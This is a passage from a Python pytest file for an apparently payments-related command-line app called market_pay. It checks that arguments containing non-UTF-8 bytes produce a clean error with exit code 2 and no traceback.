    assert sorted(db.session.scalars(select(InboxEntry.outcome))) == ["malformed", "rejected"]
    assert count(BankTransaction) == 0 and PAYOS_KEY


@pytest.mark.parametrize(
    "args",
    [
        ("kits", "build", "--market", b"\xff", "-o", "k.pdf"),
        ("partners", "set", "simbank", "--secret", b"abcdefgh\xff"),
        ("vendors", "import", "none.csv", "--market", b"M\xfe"),
    ],
)
def test_a_cli_argument_that_is_not_utf8_is_a_clear_error(tmp_path, args):
    import os
    import subprocess
    import sys

    from tests.servers import ROOT

    env = {
        **os.environ,
        "MARKET_PAY_SECRET_KEY": "cli-secret",
        "MARKET_PAY_DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}",
    }
    result = subprocess.run(
        [sys.executable, "-m", "market_pay.cli", *args], env=env, cwd=ROOT, capture_output=True, timeout=120
    )
    stderr = result.stderr.decode("utf-8", "replace")
    assert result.returncode == 2 and "not UTF-8" in stderr and "Traceback" not in stderr, stderr
